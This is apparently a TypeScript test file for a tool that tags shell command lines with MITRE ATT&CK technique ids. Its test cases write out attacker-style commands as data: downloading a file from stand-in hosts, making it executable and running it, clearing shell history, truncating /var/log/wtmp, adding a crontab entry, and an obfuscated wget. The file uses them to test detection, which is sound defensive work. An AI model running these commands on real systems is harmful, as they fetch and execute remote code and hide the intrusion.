import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { loadKnowledge } from './knowledge.ts';

const { techniques } = loadKnowledge();
/** Id and the pieces of the line that show it. */
const shown = (line: string) =>
  Object.fromEntries(
    techniques
      .read(line)
      .techniques.map(({ technique, spans }) => [technique.id, spans.map(([from, to]) => line.slice(from, to))]),
  );

test('each technique is marked at the command that shows it', () => {
  const cases: [line: string, expected: Record<string, string[]>][] = [
    [
      'cd /tmp; wget http://é.example/x && chmod 777 x; ./x',
      { T1105: ['wget http://é.example/x'], 'T1222.002': ['chmod 777 x'] },
    ],
    ['cat /proc/cpuinfo | grep name | wc -l', { T1082: ['cat /proc/cpuinfo'] }],
    ['uname -a;uname -r', { T1082: ['uname -a', 'uname -r'] }],
    // A text of its own: the command that runs it.
    [
      "nohup sh -c 'curl http://a.example/x; history -c' &",
      {
        'T1059.004': ["nohup sh -c 'curl http://a.example/x; history -c'"],
        T1105: ["nohup sh -c 'curl http://a.example/x; history -c'"],
        'T1070.003': ["nohup sh -c 'curl http://a.example/x; history -c'"],
      },
    ],
    ['x=$(whoami)', { T1033: ['whoami'] }],
    ['a=wg; ${a}et http://a.example/x', { T1105: ['${a}et http://a.example/x'] }],
    ['> /var/log/wtmp', { 'T1070.002': ['> /var/log/wtmp'] }],
    ['if true; then crontab x; fi', { 'T1053.003': ['crontab x'] }],
    ['echo "wget http://a.example/x"', {}],
    ['# wget http://a.example/x', {}],
    ['echo wget; cat wget.log', {}],
    ['"unfinished', {}],
  ];
  for (const [line, expected] of cases) assert.deepEqual(shown(line), expected, line);
});

const file = process.env['KANSATSUKI_ATTACKER_COMMANDS'] ?? '';
test('spans stand inside of their line, in order and apart, whatever the line', {
  skip: !existsSync(file) && 'no data',
}, () => {
  for (const text of readFileSync(file, 'utf8').trim().split('\n')) {
    const { command } = JSON.parse(text) as { command: string };
    for (const { technique, spans } of techniques.read(command).techniques) {
      let last = -1;
      for (const [from, to] of spans) {
        assert.ok(from > last && to > from && to <= command.length, `${technique.id}: ${command}`);
        last = to;
      }
    }
  }
});
